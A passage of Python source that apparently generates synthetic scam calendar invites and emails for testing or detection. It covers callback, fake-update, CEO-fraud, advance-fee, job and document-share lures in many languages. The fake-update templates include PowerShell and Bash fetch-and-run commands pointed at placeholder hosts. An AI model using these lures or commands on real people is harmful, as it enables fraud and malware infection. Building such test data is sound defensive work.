   "يرجى تحديث البيانات قبل {date}.\n\nرابط التحديث: {link}", link="https://alrajhi-update.{tok}.com/", snd=['look', 'spoof']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['callback-scam'] = ("Tech-support and subscription-renewal callback scams (call this number)",
                         dict(snd=['free', 'tenant', 'look', 'comp'], off=(0, 2)), [
 S('en', "antivirus auto-renew invoice, call to dispute", "Order {ref} - your plan renewed",
   "Thank you for staying protected.\n\nProduct: Total Security 360 Premium (5 devices)\nTerm: 3 years\nAmount charged: $399.99\n"
   "Payment method: card on file\n\nThis renewal was processed automatically. If you did not authorise it, our billing desk can reverse it within 24 hours: {phone}"),
 S('en', "electronics protection plan renewal", "Protection plan renewal confirmation",
   "Hello {rname},\n\nYour 3-year electronics protection plan has been renewed. The annual amount of $289.00 will show on your statement in 1-2 business days.\n\n"
   "Plan ID: GS-{ref}\n\nTo change or cancel, speak to an agent: {phone} (Mon-Sun)", loc="Call {phone}"),
 S('en', "security license expired, call", "Licence lapse: 4 devices unprotected",
   "Your security licence ended on {mdate}. Since then 4 devices on your account have received no definition updates.\n"
   "An engineer can reactivate the licence remotely while you're on the phone.\n\nSupport line: {phone}", snd=['free', 'tenant']),
 S('en', "payment-app invoice with callback", "Invoice from Billing Department",
   "Billing Department sent you an invoice for $749.00.\n\nItem: Bitcoin purchase via linked account\nDue: upon receipt\n\n"
   "Note from seller: If you did not make this purchase, contact our helpdesk at {phone} to cancel the transaction. "
   "Do not pay this invoice.", snd=['free', 'tenant'], sname="Billing Department"),
 S('en', "'Windows Defender' suspicious activity", "Firewall alert - remote session detected",
   "A remote session was opened on your PC at {time}. For your safety, internet access from this machine may be restricted.\n\n"
   "Do not restart or shut down the computer. Call Windows Support: {phone}\nCase: WD-{code}", loc="{phone}", snd=['free', 'look']),
 S('en', "membership upgrade charge, call to reverse", "Your annual membership upgrade",
   "Hi {rname},\n\nThanks for upgrading to the annual plan. A payment of $139.00 was taken today and the membership renews automatically each year.\n\n"
   "Didn't mean to upgrade? No problem - our membership team can reverse it over the phone today: {phone}\n\nMember ID: {code}", snd=['free', 'tenant']),
 S('en', "phone order confirmation, callback to cancel", "Order confirmation: iPhone 15 Pro Max 256GB",
   "Your order has been placed and will ship within 24 hours.\n\nItem: iPhone 15 Pro Max 256GB Natural Titanium\nQty: 1\nTotal: $1,329.00\n"
   "Deliver to: address on file\n\nIf this order wasn't placed by you, call our fraud prevention team on {phone} before it ships.", snd=['free', 'look']),
 S('en', "printer error technician callback", "Printer offline - technician callback",
   "Your printer reported error 0x{uid8} (driver conflict) and has been placed offline.\n\n"
   "A certified technician is available today to fix it remotely. Please keep this slot or call {phone} to choose another time.", loc="Remote session - {phone}", snd=['free', 'tenant']),
 S('en', "bank fraud team vishing callback", "Fraud alert: outgoing wire on hold",
   "We placed a hold on an outgoing wire transfer of $2,480.00 from your account to a recipient in Hong Kong.\n\n"
   "To release or cancel the transfer, speak with the fraud team. For your protection do not use online banking until you have spoken to us.\n\nDirect line: {phone}\nCase {ref}",
   snd=['free', 'tenant', 'look'], sname="Fraud Prevention"),
 S('en', "cloud account locked, agent will call", "Your cloud account has been locked",
   "We locked your account after several failed sign-in attempts from an unrecognised device.\n"
   "An advisor has been assigned and will call you at the time shown. You can also reach the advisor now at {phone}.\n\nCase number: {ref}", snd=['free', 'tenant']),
 S('hi', "एंटीवायरस नवीनीकरण कॉल", "आपका सब्सक्रिप्शन नवीनीकृत हो गया है",
   "प्रिय ग्राहक,\n\nआपके एंटीवायरस सब्सक्रिप्शन का नवीनीकरण सफलतापूर्वक हो गया है। ₹18,499 की राशि आपके खाते से काटी जाएगी।\n"
   "यदि आपने यह नवीनीकरण नहीं किया है, तो रिफंड के लिए तुरंत कॉल करें: {phone}"),
 S('tr', "abonelik yenileme geri arama", "Aboneliğiniz otomatik olarak yenilendi",
   "Sayın müşterimiz,\n\nGüvenlik paketiniz 2 yıl süreyle yenilenmiştir. Kartınızdan 4.899 TL tahsil edilecektir.\n"
   "İptal veya iade için müşteri hizmetlerimizi arayın: {phone}"),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['fake-update'] = ("Fake meeting-client / browser updates and 'paste this command' (ClickFix) lures",
                       dict(snd=['look', 'comp', 'spoof', 'tenant', 'free'], off=(0, 3)), [
 S('en', "fake Zoom client update before meeting", "Zoom client update required before {date}",
   "Your Zoom Workplace version is no longer supported for meetings hosted by {rorg}.\n"
   "Please install the updated client before the session, otherwise audio and screen sharing will be disabled.\n\n"
   "Download: {link}\n\nMeeting ID: {zid}", link="https://zoom-workplace-update.{tok}.com/ZoomInstaller_x64.msi",
   conf="https://us06web.zoom.us.{tok}.meeting-join.example/j/{n2}", snd=['look', 'spoof']),
 S('en', "ClickFix 'verify you are human' Win+R paste", "Document access - verification step",
   "To open the shared file you need to complete a one-time verification.\n\n"
   "1. Press the Windows key + R\n2. Press CTRL + V to paste the verification code\n3. Press Enter\n\n"
   "Verification code (already copied when you open the page): {link}\n\nThis keeps automated bots out of the document.",
   link="https://check-human-{tok}.pages.dev/verify", snd=['comp', 'look']),
 S('en', "new Teams client mandatory migration", "Action required: migrate to the new Teams client",
   "The classic Teams client will stop connecting to meetings on {date}. Install the new client now so your calendar and chats migrate correctly.\n\n"
   "[[Install new Teams|{link}]]\n\nIT Communications", link="https://teams-msft-client.{tok}.com/MSTeamsSetup.exe", snd=['tenant', 'comp'], sname="IT Communications"),
 S('en', "font pack needed to view shared doc", "Shared proposal - font missing",
   "The proposal I shared uses a font your browser doesn't have ('HoeflerText'), so it shows up as boxes.\n"
   "Install the font pack from the link and refresh: {link}\n\nThanks, {oname}",
   link="https://fontpack-update.{tok}.com/HoeflerText_update.zip", snd=['comp', 'free']),
 S('en', "critical browser update", "Critical update for Chrome on your device",
   "A critical security update is available for your browser. Version 121 and below can't open meeting links after {date}.\n\n"
   "Update now: {link}", link="https://chrome-update-{n1}.{tok}.com/ChromeSetup.exe", loc="{link}", snd=['spoof', 'look']),
 S('en', "Webex app update lure", "Updated Webex app required for this meeting",
   "This meeting uses end-to-end encryption, which requires Webex App 44.x or later. Your current version cannot join.\n\n"
   "Update before the meeting starts: {link}\n\nHost: {oname}\nMeeting number: 2{n2} {n2} {n1}",
   link="https://webex-app-update.{tok}.com/WebexSetup.msi", conf="https://{tok}.webex-meet.example/join/{n2}", snd=['comp', 'look']),
 S('fr', "module de signature obligatoire", "Mise à jour obligatoire du module de signature",
   "Bonjour,\n\nPour signer le contrat lors de notre rendez-vous, merci d'installer la dernière version du module de signature électronique. "
   "L'ancienne version n'est plus reconnue par la plateforme.\n\nTéléchargement : {link}",
   link="https://signature-module.{tok}.fr.example/SignModule_Setup.exe", snd=['comp', 'look']),
 S('ru', "обновление сертификата ЭЦП командой", "Обновление сертификата ЭЦП до {date}",
   "Коллеги, добрый день!\n\nВ связи с переходом на новый формат подписи необходимо обновить сертификат до {date}.\n"
   "Откройте «Выполнить» (Win+R), вставьте строку ниже и нажмите Enter:\n\npowershell -w h -c \"iwr {link} | iex\"\n\nБухгалтерия",
   link="https://cert-update-{tok}.ru.example/u.ps1", snd=['comp', 'spoof']),
 S('pl', "aktualizacja Zoom fałszywa", "Aktualizacja klienta Zoom przed spotkaniem",
   "Dzień dobry,\n\nprzed jutrzejszym spotkaniem prosimy o aktualizację aplikacji Zoom – starsza wersja nie obsługuje szyfrowania wymaganego przez organizatora.\n\n"
   "Pobierz: {link}", link="https://zoom-pl-update.{tok}.com/ZoomSetup.exe", snd=['look', 'spoof']),
 S('ko', "보안 프로그램 설치 유도", "회의 참석 전 보안 프로그램 설치 안내",
   "안녕하세요.\n\n화상회의 접속을 위해 보안 모듈 설치가 필요합니다. 아래 링크에서 설치 후 회의에 참여해 주세요.\n\n{link}\n\n감사합니다.",
   link="https://secure-module-{tok}.kr.example/setup.exe", snd=['look', 'comp']),
 S('en', "macOS 'paste into Terminal' lure", "Meeting audio fix for macOS",
   "Some Mac users can't hear audio in our meeting rooms since the last update. Fix takes ten seconds:\n\n"
   "Open Terminal (Cmd+Space, type Terminal) and paste:\n/bin/bash -c \"$(curl -fsSL {link})\"\n\nThen rejoin the call: {link2}",
   link="https://audiofix-{tok}.com/install.sh", link2="https://meet.{tok}.com/r/{n2}", conf="{link2}", snd=['look', 'free']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['bec'] = ("Business e-mail compromise: CEO fraud, gift cards, supplier bank-detail and payroll diversion",
               dict(snd=['free', 'look', 'spoof', 'comp'], off=(0, 2), guests=0), [
 S('en', "CEO 'are you at your desk' 10-minute call", "Quick one",
   "Are you around for 10 minutes? I'm between sessions at the conference and need you to handle something discreetly for me. "
   "Reply to this address rather than my usual one, I'm on my phone.\n\n{oname}\nSent from my iPhone",
   snd=['free', 'look'], sname="{v_ceo}", v={'v_ceo': ["Richard Hale", "Catherine Moore", "Andrew Whitfield"]}, dur=15),
 S('en', "gift cards for client appreciation", "Client appreciation - need your help today",
   "Hi {rname},\n\nI want to surprise a few of our key clients this afternoon. Can you pick up 8 Apple gift cards at $200 each? "
   "Keep the receipts and you'll be reimbursed this week. Scratch the backs and send me photos of the codes once you have them.\n\nThanks,\n{oname}",
   snd=['free', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["Michael Grant", "Susan Reyes"]}),
 S('en', "supplier bank details change effective next run", "Updated remittance details - effective next payment run",
   "Dear Accounts Payable,\n\nFollowing our move to a new banking partner, please update our remittance details before your next payment run. "
   "Our old account will be closed at month end and payments sent there will be returned.\n\n"
   "Beneficiary: {oorg}\nBank: Metro Commercial Bank\nSort code: 04-00-{n1}\nAccount: 4{n2}21\n\n"
   "A letter on our letterhead is available on request. Could you confirm once updated?\n\nKind regards,\n{oname}\nCredit Control",
   snd=['look', 'comp'], loc="Accounts payable call"),
 S('en', "payroll direct deposit diversion", "Direct deposit change before the 15th",
   "Hi,\n\nI recently switched banks and would like my salary to go to the new account from this cycle. "
   "What information do you need from me? I'd appreciate it if this can be done before the 15th.\n\nThanks,\n{oname}",
   snd=['free', 'spoof'], sname="{rfull_colleague}", v={'rfull_colleague': ["Jennifer Walsh", "Kevin Ortiz", "Amanda Lee"]}),
 S('en', "confidential acquisition with fake counsel", "Project Heron - confidential",
   "{rname},\n\nWe are in the final stage of a confidential acquisition. You'll receive a call from our external counsel, Mr. Lawson, "
   "regarding the escrow payment. Please treat this strictly confidential - do not discuss with anyone in the office until the announcement.\n\n"
   "Counsel's direct line: {phone}\n\n{oname}", snd=['look', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["Jonathan Pierce", "Elaine Brooks"]}, loc="Conference call {phone}"),
 S('de', "CEO-Fraud vertrauliche Transaktion", "Vertrauliches Projekt – bitte um Ihre Unterstützung",
   "Guten Tag {rname},\n\nich bereite derzeit eine vertrauliche Übernahme vor und benötige dafür Ihre Unterstützung bei einer Auslandsüberweisung. "
   "Bis zur offiziellen Bekanntgabe bitte ich um absolute Diskretion, auch gegenüber Kollegen.\n"
   "Bitte antworten Sie nur an diese Adresse.\n\nMit freundlichen Grüßen\n{oname}\nGeschäftsführung",
   snd=['look', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["Dr. Thomas Berger", "Claudia Vogt"]}),
 S('fr', "changement RIB fournisseur", "Changement de coordonnées bancaires",
   "Bonjour,\n\nSuite à un audit interne, nous avons changé d'établissement bancaire. Merci de bien vouloir enregistrer notre nouveau RIB "
   "pour le règlement des factures en cours (n° {ref} et suivantes).\n\nIBAN : FR76 3000 4{n2} 0001 {n2}9 1{n1}\nBIC : BNPAFRPPXXX\n\n"
   "Je reste à votre disposition pour un point téléphonique.\n\nCordialement,\n{oname}\nService comptabilité",
   snd=['look', 'comp']),
 S('es', "cambio de cuenta facturas pendientes", "Cambio de cuenta para las facturas pendientes",
   "Buenos días:\n\nLes informamos de que, por motivos de auditoría, las facturas pendientes deben abonarse a nuestra nueva cuenta. "
   "La anterior ya no estará operativa a partir de esta semana.\n\nNuevo IBAN: ES91 2100 {n2} {n2} {n1}00 {n2}\n\n"
   "Por favor, confirmen recepción. Un saludo,\n{oname}", snd=['look', 'comp']),
 S('it', "richiesta riservata dal direttore", "Operazione riservata – serve il tuo supporto oggi",
   "Ciao {rname},\n\nsto seguendo un'operazione riservata con lo studio legale e ho bisogno che tu gestisca un pagamento entro oggi. "
   "Ti spiego tutto in chiamata. Per ora non parlarne con nessuno, grazie.\n\n{oname}",
   snd=['free', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["Alessandro Conti", "Roberta Marini"]}),
 S('nl', "nieuwe rekeninggegevens leverancier", "Nieuwe rekeninggegevens vanaf de volgende factuur",
   "Goedemiddag,\n\nWij zijn overgestapt naar een andere bank. Wilt u de openstaande facturen en toekomstige betalingen overmaken naar:\n\n"
   "IBAN: NL{n1}ABNA0{n2}{n2}\nT.n.v. {oorg}\n\nDe oude rekening wordt binnenkort opgeheven. Alvast bedankt.\n\nMet vriendelijke groet,\n{oname}",
   snd=['look', 'comp']),
 S('pt', "alteração conta salário", "Atualização da minha conta para pagamento",
   "Olá,\n\nAbri conta em outro banco e gostaria que o meu salário deste mês já caísse na conta nova. "
   "Posso mandar os dados por aqui mesmo? É bem urgente, obrigado.\n\n{oname}",
   snd=['free'], sname="{v_emp}", v={'v_emp': ["Carlos Menezes", "Juliana Prado"]}),
 S('ja', "社長 LINEグループ作成依頼", "至急のお願い",
   "お疲れ様です。\n\n新しいプロジェクトの件で、社内の関係者だけでLINEグループを作成したいと思います。"
   "グループを作成し、QRコードをこのメールに返信で送ってください。\n\n本件は他言無用でお願いします。\n\n{oname}",
   snd=['free', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["山本 浩二", "中村 誠"]}),
 S('zh', "老板要求建微信群", "请今天建一个工作群",
   "你好，\n\n公司近期有个重要合作，需要财务部门配合。请你现在建一个微信群，把二维码回复给我，"
   "我把合作方的负责人拉进来。此事暂时保密，不要告诉其他同事。\n\n{oname}",
   snd=['free', 'spoof'], sname="{v_ceo}", v={'v_ceo': ["陈总", "刘建国"]}),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['advance-fee'] = ("Advance-fee fraud: inheritances, compensation funds, consignments, donations",
                       dict(snd=['free', 'comp', 'spoof'], off=(1, 10)), [
 S('en', "estate of late client sharing surname", "Estate of the late Mr. D. {rlocal}",
   "Dear {rname},\n\nI am a solicitor handling the estate of a client who died intestate in 2019. The estate, valued at 8.4 million euros, "
   "remains unclaimed and my searches point to you as the closest available match by surname.\n\n"
   "I propose we present you as next of kin; the legal work is straightforward and the proceeds would be shared. "
   "I have scheduled a call to explain the process. Kindly treat this with discretion.\n\nBarrister Edwin Okoro",
   snd=['free', 'comp'], sname="Barr. Edwin Okoro"),
 S('en', "compensation fund beneficiary", "Compensation payment file - second notice",
   "This is to inform you that your name appears on the list of beneficiaries approved for a compensation payment of $1,500,000 "
   "for victims of online fraud. The payment will be released via ATM card once the delivery charge is covered.\n\n"
   "Reply with your full name, phone number and address. Contact officer: Mrs. Linda Harper",
   snd=['free'], sname="Compensation Desk"),
 S('en', "diplomatic consignment box", "Consignment box awaiting clearance",
   "Good day,\n\nA diplomatic courier is holding a consignment box registered in your name at the airport. The content is declared as family valuables. "
   "Before it can be delivered to your address, the storage and clearance fees must be settled.\n\nDiplomat: Mr. James Morgan\nPhone: {phone}",
   loc="Airport cargo terminal", snd=['free', 'spoof']),
 S('fr', "donation veuve malade", "Don de bienfaisance",
   "Bonjour,\n\nJe suis Madame Claire Fontaine, veuve et gravement malade. Les médecins ne me donnent que quelques mois. "
   "Je souhaite faire don de 850 000 € à une personne honnête qui saura en faire bon usage pour les orphelins.\n\n"
   "Si vous acceptez, répondez-moi avec vos coordonnées. Que Dieu vous bénisse.", snd=['free']),
 S('es', "herencia sin reclamar abogado", "Herencia sin reclamar – su apellido",
   "Estimado/a:\n\nSoy abogado y represento los intereses de un cliente fallecido sin herederos. Dado que comparte usted el apellido, "
   "podemos tramitar la herencia (4,2 millones) a su nombre de forma legal. Le propongo repartir al 50%.\n\n"
   "Le he reservado una llamada para explicarle los detalles. Atentamente, Lic. Ramón Ibarra", snd=['free', 'comp']),
 S('ar', "صفقة ودائع", "شراكة استثمارية سرية",
   "تحية طيبة وبعد،\n\nأنا مدير العمليات في أحد البنوك، ولدينا وديعة بقيمة 12 مليون دولار لعميل متوفى دون ورثة. "
   "أبحث عن شريك أجنبي موثوق لتحويل المبلغ بطريقة قانونية، ونصيبك 40%.\n\nأرجو الرد مع رقم هاتفك للتواصل.",
   snd=['free']),
 S('ru', "компенсация вкладчикам", "Решение о выплате компенсации",
   "Уважаемый получатель!\n\nПо решению международного фонда вам назначена компенсация в размере 3 480 000 ₽ "
   "за ущерб от деятельности финансовых пирамид. Для перевода средств необходимо оплатить госпошлину (2 750 ₽).\n\n"
   "Оформление: {link}", link="https://fond-kompensacii-{tok}.ru.example/", snd=['free', 'spoof']),
 S('el', "κληρονομιά συγγενή", "Κληρονομιά από συγγενή σας στο εξωτερικό",
   "Αγαπητέ/ή {rname},\n\nΕπικοινωνώ μαζί σας ως δικηγόρος για υπόθεση κληρονομιάς συγγενή σας που απεβίωσε στο Τορόντο. "
   "Το ποσό ανέρχεται σε 2,3 εκατ. ευρώ. Για την έναρξη της διαδικασίας χρειάζονται τα στοιχεία σας και η κάλυψη των εξόδων.\n\nΜε εκτίμηση",
   snd=['free'], cs='windows-1253'),
 S('he', "ירושה ממכר רחוק", "ירושה שלא נדרשה",
   "שלום רב,\n\nאני עורך דין המטפל בעיזבון של לקוח שנפטר ללא יורשים. שם המשפחה שלך זהה, ולכן אני פונה אליך. "
   "מדובר בסכום של 3.1 מיליון דולר, והחלוקה תהיה שווה בינינו. בבקשה שמור את הפנייה בסוד.\n\nבברכה, עו\"ד דוד רבין",
   snd=['free']),
 S('zh', "港商资金转移合作", "关于资金合作的私人请求",
   "您好：\n\n我是一名在香港银行工作的经理，现有一笔无人认领的存款（约 1800 万美元）。我需要一位可信赖的海外合作伙伴协助转移，"
   "事成后您可获得 35% 的报酬。此事需严格保密。\n\n请回复您的姓名和电话。", snd=['free'], tz='Asia/Hong_Kong'),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['task-job'] = ("Task and job scams that move victims to WhatsApp/Telegram", dict(snd=['free', 'look', 'comp', 'tenant'], off=(0, 5)), [
 S('en', "remote product-review assistant via WhatsApp", "Flexible remote role - 60 min/day",
   "Hi {rname},\n\nI'm Lauren from a digital marketing agency. We help merchants improve their app ratings and are looking for people who can spare about an hour a day. "
   "Daily pay is $300-$700, paid the same day, no experience needed.\n\nIf you're curious, message our onboarding coordinator on WhatsApp: {link}\n\nKind regards, Lauren",
   link="https://wa.me/1555{n2}12", snd=['free']),
 S('en', "recruiter persona for 'data optimization'", "Part-time opportunity - data optimization",
   "Hello,\n\nYour profile was shared with us by a recruitment partner. We have a part-time, remote data optimization role: you submit product data sets "
   "from your phone, 30-40 tasks per day, weekly pay plus commission.\n\nTraining is provided by a mentor on Telegram: {link}",
   link="https://t.me/{tok}_hr", snd=['look', 'tenant'], sorg="Apex Talent Partners"),
 S('en', "paid to like videos Telegram", "earn $50 for 5 minutes today?",
   "quick one - we pay people to like and subscribe to creators' videos (they're boosting their stats). $5 per like, 10 likes today = $50 to your CashApp. "
   "Message 'START' to our Telegram receptionist: {link}", link="https://t.me/+{tok2}", snd=['free']),
 S('de', "Nebenjob App-Tester Homeoffice", "Nebenjob im Homeoffice – App-Tester (m/w/d)",
   "Hallo {rname},\n\nwir suchen ab sofort App-Tester im Homeoffice. Aufwand ca. 1 Stunde am Tag, Vergütung 450 € pro Woche. "
   "Alles, was Sie brauchen, ist ein Smartphone.\n\nInteresse? Schreiben Sie unserer Personalabteilung auf WhatsApp: {link}",
   link="https://wa.me/4915{n2}7{n1}", snd=['free', 'comp']),
 S('es', "trabajo desde casa cobro diario", "Trabajo desde casa – cobras cada día",
   "¡Hola!\n\nBuscamos personas para valorar productos en línea desde el móvil. Sin experiencia, horario libre, entre 80 y 250 € diarios.\n"
   "Escribe a nuestra coordinadora por WhatsApp para empezar hoy mismo: {link}", link="https://wa.me/346{n2}11{n1}", snd=['free']),
 S('pt', "vaga avaliações Shopee", "Vaga de meio período – avaliação de produtos",
   "Olá, tudo bem?\n\nEstamos contratando para trabalho remoto: avaliar produtos de lojas parceiras. Ganho de R$ 150 a R$ 800 por dia, pagamento via Pix na hora.\n"
   "Fale com a recrutadora no WhatsApp: {link}", link="https://wa.me/5511{n2}7{n1}", snd=['free', 'look']),
 S('it', "collaborazione part-time pagamento giornaliero", "Collaborazione part-time con pagamento giornaliero",
   "Buongiorno,\n\nil suo curriculum è stato selezionato per una collaborazione da remoto. Bastano 30-60 minuti al giorno, "
   "compenso tra 100 e 300 € al giorno. Per i dettagli contatti la nostra HR su WhatsApp: {link}",
   link="https://wa.me/39320{n2}{n1}", snd=['free', 'tenant']),
 S('hi', "टेलीग्राम टास्क घर बैठे कमाई", "घर बैठे कमाएं ₹3000 रोज़",
   "नमस्ते {rname},\n\nहमारी कंपनी को पार्ट-टाइम वर्क फ्रॉम होम के लिए लोगों की ज़रूरत है। बस यूट्यूब वीडियो लाइक करें और रोज़ ₹1500-₹3000 कमाएं। "
   "पेमेंट सीधे UPI पर।\n\nटेलीग्राम पर HR से बात करें: {link}", link="https://t.me/{tok}_work", snd=['free']),
 S('th', "งานออนไลน์ รายได้รายวัน", "งานออนไลน์ทำที่บ้าน รายได้วันละ 1,500 บาท",
   "สวัสดีค่ะ\n\nบริษัทของเรากำลังรับสมัครพนักงานพาร์ทไทม์ทำงานผ่านมือถือ ไม่ต้องมีประสบการณ์ รายได้วันละ 500-1,500 บาท "
   "สนใจแอดไลน์เจ้าหน้าที่ได้เลยค่ะ {link}", link="https://line.me/ti/p/~hr{n2}", snd=['free']),
 S('ar', "وظيفة عن بعد واتساب", "وظيفة عن بعد براتب يومي",
   "مرحباً،\n\nنبحث عن موظفين للعمل عن بعد لمدة ساعة يومياً في تقييم المنتجات. الدخل من 200 إلى 800 درهم يومياً، "
   "والدفع في نفس اليوم.\n\nتواصل مع مسؤولة التوظيف عبر واتساب: {link}", link="https://wa.me/9715{n2}{n1}", snd=['free']),
 S('tr', "evden çalışma günlük ödeme", "Evden çalışma fırsatı – günlük ödeme",
   "Merhaba,\n\nŞirketimiz uzaktan çalışacak yarı zamanlı ekip arkadaşları arıyor. Günde 1 saat, günlük 1.000-3.000 TL kazanç. "
   "Detaylar için Telegram'dan İK asistanımıza yazın: {link}", link="https://t.me/{tok}_ik", snd=['free', 'look']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['doc-share-compromised'] = ("Document-share and invoice lures sent from compromised partner mailboxes",
                                 dict(snd=['comp', 'free', 'look'], off=(0, 3)), [
 S('en', "plumbing supplier shares remittance advice", "{oorg} shared 'Remittance_Advice.pdf' with you",
   "Hi,\n\nPlease find the remittance advice for last month's invoices using the secure link below. Let me know if anything doesn't match on your side.\n\n"
   "[[Remittance_Advice.pdf|{link}]]\n\nRegards,\n{oname}\n{oorg}", link="https://{tok}.sharepoint-docs.example/:b:/g/remit?e={b64}", snd=['comp']),
 S('en', "law firm OneDrive proposal", "Proposal - {rorg}",
   "Good afternoon,\n\n{oname} has shared a file with you.\n\nProposal - {rorg}.pdf\n\nThis link will work for anyone with the address {rmail}.\n\n"
   "[[Open|{link}]]\n\nPrivacy Statement", link="https://1drv.ms.{tok}.ngrok-free.app/b/s!{tok2}", snd=['comp'], attach=("{link}", "application/pdf", "Proposal.pdf")),
 S('en', "statement attachment as ATTACH html link", "Q2 statement - please see attached",
   "Hi {rname},\n\nAttached is the Q2 statement of account. Two items are past due, please check before our call.\n\nThanks,\n{oname}",
   link="https://pub-{hex}.r2.dev/statement.html#{rmail}", attach=("{link}", "text/html", "Statement_Q2.htm"), snd=['comp', 'free']),
 S('en', "scanned document from copier", "Scanned document from MFP-4521",
   "You have received a scanned document.\n\nPages: 4\nFormat: PDF\nDevice: MFP-4521 (2nd floor)\n\nView document: {link}",
   link="https://scan-{tok}.web.app/view?u={b64}", snd=['comp', 'look'], sname="Scanner"),
 S('en', "RFQ tender docs Dropbox, replied as accepted", "Accepted: RFQ - tender documents for review",
   "",
   meth='REPLY', reply='ACCEPTED', comment="Tender documents are in the shared folder, please review before the meeting: [[RFQ documents|{link}]]",
   link="https://www.dropbox.com.{tok}.web.app/scl/fi/rfq", snd=['comp'], cl=['google', 'outlook', 'tool', 'thunderbird', 'zimbra', 'sogo']),
 S('en', "accounting-app invoice from compromised supplier", "Invoice INV-{n2} from {oorg} for {rorg}",
   "Hi {rname},\n\nHere's invoice INV-{n2} for {amt}.\n\nThe amount outstanding is due on {date}.\n\n[[View your bill online|{link}]]\n\n"
   "From your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding bills.\n\nIf you have any questions, please let us know.\n\nThanks,\n{oorg}",
   link="https://in.xero-invoices.{tok}.com/view/{hex}", snd=['comp']),
 S('en', "voice memo shared from partner mailbox", "Voice memo: contract changes",
   "Hey {rname}, left you a quick voice memo on the contract changes rather than typing it all out. It's about 3 minutes.\n\n"
   "[[ContractChanges_memo.wav|{link}]]\n\nTalk Thursday,\n{oname}", link="https://app.box.{tok}.net/s/{tok2}", snd=['comp']),
 S('en', "wire receipt with SVG attachment link", "Payment confirmation - wire receipt",
   "Hello,\n\nPlease find attached the wire confirmation for the payment released today. Kindly confirm once received on your end.\n\nBest regards,\n{oname}\nAccounts",
   link="https://{tok}.blob.core.windows.net/rcpt/Wire_Receipt_{n2}.svg", attach=("{link}", "image/svg+xml", "Wire_Receipt.svg"), snd=['comp', 'free']),
 S('nl', "offerte ter goedkeuring", "Offerte ter goedkeuring",
   "Goedemorgen,\n\nHierbij de offerte zoals besproken. U kunt het document inzien en digitaal goedkeuren via onderstaande link.\n\n"
   "{link}\n\nMet vriendelijke groet,\n{oname}", link="https://offerte-{tok}.pages.dev/", snd=['comp', 'look']),
 S('pl', "faktura korygująca link", "Faktura korygująca do zamówienia {n2}",
   "Dzień dobry,\n\nprzesyłam fakturę korygującą do zamówienia. Dokument jest dostępny pod linkiem poniżej.\n\n{link}\n\nPozdrawiam,\n{oname}",
   link="https://faktury-{tok}.web.app/korekta", snd=['comp']),
 S('el', "κοινοποιημένο έγγραφο τιμολόγιο", "Κοινοποιημένο έγγραφο: Τιμολόγιο",
   "Καλησπέρα σας,\n\nΣας κοινοποιώ το τιμολόγιο για έλεγχο. Μπορείτε να το δείτε στον παρακάτω σύνδεσμο.\n\n{link}\n\nΜε εκτίμηση,\n{oname}",
   link="https://docs-{tok}.firebaseapp.com/inv", snd=['comp', 'free']),
 S('ja', "請求書確認 共有リンク", "請求書のご確認のお願い",
   "いつもお世話になっております。\n\n今月分の請求書を共有いたしましたので、下記リンクよりご確認をお願いいたします。\n\n{link}\n\n"
   "何卒よろしくお願い申し上げます。\n{oname}", link="https://share-{tok}.box-docs.example/invoice", snd=['comp']),
])

# ---------------------------------------------------------------------------------------------------------------
CATS['nagging-payload'] = ("Recurring 'nag' events with alarms that keep re-surfacing a payload (incl. gambling)",
                           dict(snd=['free', 'look', 'tenant', 'spoof', 'comp'], off=(0, 1), noatt='rcpt'), [
 S('en', "daily cloud-storage-full nag", "Storage full - photos will be removed",
   "Your cloud storage is full. Photos and videos will stop syncing and older items may be removed.\nAs a loyal customer you can get 50 GB for $1.99: {link}",
   link="https://cloud-storage-{tok}.com/upgrade", rr="FREQ=DAILY;COUNT=30", alarms=[0, 5], dur=15, snd=['free', 'look']),
 S('en', "hourly reward-expiry nag", "⏰ Your reward expires soon",
   "Reminder: a $750 reward is still reserved for you. It expires when this series ends.\n{link}",
   link="https://reward-{tok}.click/r", rr="FREQ=HOURLY;INTERVAL=4;COUNT=60", alarms=[0], dur=5, snd=['free', 'tenant']),
 S('en', "daily 'threats found' antivirus nag", "5 threats found on your device",
   "Your device is infected with (5) threats. Run a scan and remove them now.\n\n[[Scan now|{link}]]",
   link="https://scan-protect-{tok}.com/?c={n2}", rr="FREQ=DAILY", alarms=[0], dur=10, loc="{link}", snd=['free', 'spoof']),
 S('en', "daily extended car warranty nag", "Final notice: vehicle service contract",
   "Our records indicate your vehicle's factory warranty has expired or will expire soon. This is your final courtesy reminder. "
   "Call {phone} to reinstate coverage before your file is closed.", rr="FREQ=DAILY;COUNT=21", alarms=[0], dur=10, snd=['free', 'look']),
 S('en', "twice-weekly horoscope subscription nag", "Your personal forecast is ready ✨",
   "{rname}, Venus enters your house of money this week. Your full personal reading is unlocked for 24 hours only: {link}",
   link="https://astro-{tok}.app/reading", rr="FREQ=WEEKLY;BYDAY=MO,TH", alarms=[0], dur=5),
 S('ru', "ежедневное напоминание о выигрыше", "Напоминание: ваш выигрыш ждёт",
   "Ваш выигрыш 85 000 ₽ всё ещё не получен. Заберите его сегодня: {link}",
   link="https://vyigrysh-{tok}.ru.example/", rr="FREQ=DAILY;COUNT=10", alarms=[0, 30], dur=10, snd=['free', 'spoof']),
 S('ar', "تذكير يومي مكافأة", "تذكير: جائزتك بانتظارك",
   "لم تستلم جائزتك بعد. اضغط هنا للاستلام قبل انتهاء المهلة: {link}",
   link="https://jaiza-{tok}.com/ar", rr="FREQ=DAILY;COUNT=7", alarms=[0], dur=10),
 S('zh', "每日博彩提醒", "每日签到送彩金 – 今日奖励已到账",
   "尊敬的会员：今日签到彩金 188 元已到账，请在 24 小时内领取。\n真人娱乐、体育投注，首充再送 100%。\n{link}",
   link="https://vip-{tok}.bet.example/", rr="FREQ=DAILY", alarms=[0, 15], dur=30, snd=['free', 'look']),
 S('hi', "IPL सट्टा रोज़ाना याद", "आज का मैच – 500% बोनस",
